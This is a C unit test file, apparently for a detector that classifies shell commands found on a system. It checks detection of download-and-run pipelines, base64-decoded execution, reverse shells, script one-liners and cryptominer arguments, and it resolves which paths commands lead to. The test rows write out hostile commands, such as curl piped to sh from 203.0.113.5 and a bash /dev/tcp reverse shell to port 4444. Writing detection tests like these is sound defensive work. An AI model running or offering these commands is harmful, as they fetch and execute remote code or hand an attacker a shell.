#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "decode/setup/command.h"

static void what_commands_do(void **state)
{
	static const struct {
		const char *command;
		unsigned marks;
	} rows[] = {
		{"curl -fsSL http://203.0.113.5/i.sh | sh", COMMAND_FETCHES},
		{"wget -q -O - http://203.0.113.5/i.sh|bash", COMMAND_FETCHES},
		{"(curl -s http://203.0.113.5/a || wget -qO- http://203.0.113.5/a) | bash",
		 COMMAND_FETCHES},
		{"{ curl -s http://203.0.113.5/a || wget -qO- http://203.0.113.5/a; } | sh",
		 COMMAND_FETCHES},
		{"/usr/bin/curl x | sudo -E /bin/bash -", COMMAND_FETCHES},
		{"curl x | python3.11 -", COMMAND_FETCHES},
		{"bash -c \"$(curl -fsSL http://203.0.113.5/i.sh)\"", COMMAND_FETCHES},
		{"sh -c 'curl http://203.0.113.5/i | sh'", COMMAND_FETCHES},
		{"bash <(curl -s http://203.0.113.5/i)", COMMAND_FETCHES},
		{"eval \"$(wget -qO- http://203.0.113.5/i)\"", COMMAND_FETCHES},
		{". <(curl -s http://203.0.113.5/i)", COMMAND_FETCHES},
		{"wget http://203.0.113.5/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", COMMAND_FETCHES},
		{"cd /tmp && curl -O http://203.0.113.5/x && chmod 777 x && ./x", COMMAND_FETCHES},
		{"echo Y3VybA== | base64 -d | sh", COMMAND_UNPACKS},
		{"echo Y3VybA==|base64 --decode|bash", COMMAND_UNPACKS},
		{"bash -c \"$(echo Y3VybA== | base64 -d)\"", COMMAND_UNPACKS},
		{"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", COMMAND_CONNECTS},
		{"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x\").read())'",
		 COMMAND_ONE_LINER},
		{"perl -MSocket -e 'use Socket;exec \"/bin/sh\"'", COMMAND_ONE_LINER},
		{"/opt/x -o stratum+tcp://pool.example.net:3333 -u 4A", COMMAND_MINES},
		{"/opt/x --donate-level 1", COMMAND_MINES},
		/* near misses */
		{"curl -fsS https://example.org/health > /dev/null", 0},
		{"curl -s https://example.org/x | jq .version", 0},
		{"curl -s https://example.org/x | grep sh", 0},
		{"echo curl x | sh is dangerous", 0},
		{"curl -O https://example.org/x.deb; bash /usr/local/bin/other", 0},
		{"wget -q https://example.org/list -O /var/lib/list || exit 1", 0},
		{"(curl -s -o /var/lib/x https://example.org/x; sh /usr/local/bin/other)", 0},
		{"base64 /etc/x | mail root", 0},
		{"echo x | base64 -d > /var/lib/x", 0},
		{"python3 -c 'print(1)'", 0},
		{"perl -ne 'print if /x/' /var/log/syslog", 0},
		{"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", 0},
		{"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
		 "/usr/lib/php/sessionclean; fi",
		 0},
		{"cat /proc/net/tcp", 0},
		{"", 0},
		{"'\"`$((((<<<|||", 0},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		unsigned marks = command_marks(str_from(rows[i].command));
		if (marks != rows[i].marks)
			fail_msg("%s: %#x instead of %#x", rows[i].command, marks, rows[i].marks);
		assert_int_equal(marks != 0, command_marks_text(marks) != NULL);
	}
}

static void where_commands_lead(void **state)
{
	static const struct {
		const char *command, *path;
		bool leads;
	} rows[] = {
		{"/tmp/.x/run -q", "/tmp/.x/run", true},
		{"nohup '/tmp/.x/run' &", "/tmp/.x/run", true},
		{"/tm''p/.x/\"run\"", "/tmp/.x/run", true},
		{"/tmp/\\.x/run", "/tmp/.x/run", true},
		{"sh -c 'exec /tmp/.x/run'", "/tmp/.x/run", true},
		{"cd /tmp/.x && ./run", "/tmp/.x/run", true},
		{"cd '/tmp/.x'; nice run", "/tmp/.x/run", true},
		{"~/.cache/run", "/home/USER/.cache/run", true},
		{"$HOME/.cache/run",
		 "/root"
		 "/.cache/run",
		 true},
		{"kdevtmpfsi", "/usr/bin/kdevtmpfsi", true},
		{"'/tmp/a;touch x'", "/tmp/a;touch x", true},
		{"/tmp/a\\;touch\\ x", "/tmp/a;touch x", true},
		{"exec=/tmp/run", "/tmp/run", true},
		/* near misses */
		{"/tmp/.x/runner", "/tmp/.x/run", false},
		{"/var/tmp/.x/run", "/tmp/.x/run", false},
		{"/tmp/.x/run.old", "/tmp/.x/run", false},
		{"run", "/tmp/.x/run", false},
		{"echo kdevtmpfsi", "/usr/bin/kdevtmpfsi", false},
		{"cd /tmp/.y && ./run", "/tmp/.x/run", false},
		{"~/.cache/run", "/srv/.cache/run", false},
		{"", "/tmp/x", false},
		{"/tmp/x", "", false},
		{"/tmp/x", "x", false},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
		if (command_leads_to(str_from(rows[i].command), str_from(rows[i].path)) !=
		    rows[i].leads)
			fail_msg("%s to %s", rows[i].command, rows[i].path);
}

static void words_are_a_shells(void **state)
{
	static const struct {
		const char *word;
		bool is_operator, is_first;
	} rows[] = {{"A=1", false, true}, {"/b c", false, false}, {";", true, false},
		    {"d", false, true},	  {"|", true, false},	  {"e", false, true},
		    {">", true, false},	  {"f", false, false}};
	struct command_reader reader;
	struct command_word word;

	command_begin(&reader, STR("A=1 '/b c'; \\\n d|\"e\" >f"));
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		assert_true(command_next(&reader, &word));
		assert_true(str_equal(str_of(word.at, word.len), str_from(rows[i].word)));
		assert_int_equal(word.is_operator, rows[i].is_operator);
		assert_int_equal(word.is_first, rows[i].is_first);
	}
	assert_false(command_next(&reader, &word));
}

static void programs_are_what_is_run(void **state)
{
	static const struct {
		const char *command, *programs;
	} rows[] = {
		{"/opt/a -x /opt/b", "/opt/a "},
		{"A=1 /opt/a; /opt/b | tee /opt/c", "/opt/a /opt/b "},
		{"/bin/sh -e /opt/a.sh /opt/b", "/bin/sh /opt/a.sh "},
		{"nohup nice -n 19 /opt/a &", "/opt/a "},
		{"cd / && run-parts /etc/cron.daily > /var/log/x", ""},
		{"rm -rf /tmp", ""},
		{"test -x /usr/sbin/a || /usr/sbin/b", "/usr/sbin/b "},
		{"", ""},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		struct command_reader reader;
		struct command_word word;
		char got[512] = "";
		command_begin(&reader, str_from(rows[i].command));
		while (command_program_next(&reader, &word)) {
			strncat(got, word.at, word.len);
			strcat(got, " ");
		}
		assert_string_equal(got, rows[i].programs);
	}
}

/* A line of a megabyte is read once, not once for each of its bytes. */
static void long_lines_end(void **state)
{
	static char line[1 << 20];
	static const char fills[] = {'a', '/', '\'', '\\', '|', ' ', '\0', '(', '\n'};

	for (size_t i = 0; i < sizeof(fills); i++) {
		memset(line, fills[i], sizeof(line));
		(void)command_marks(str_of(line, sizeof(line)));
		assert_false(command_leads_to(str_of(line, sizeof(line)), STR("/tmp/x")));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_commands_do),   cmocka_unit_test(where_commands_lead),
		cmocka_unit_test(words_are_a_shells), cmocka_unit_test(programs_are_what_is_run),
		cmocka_unit_test(long_lines_end),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
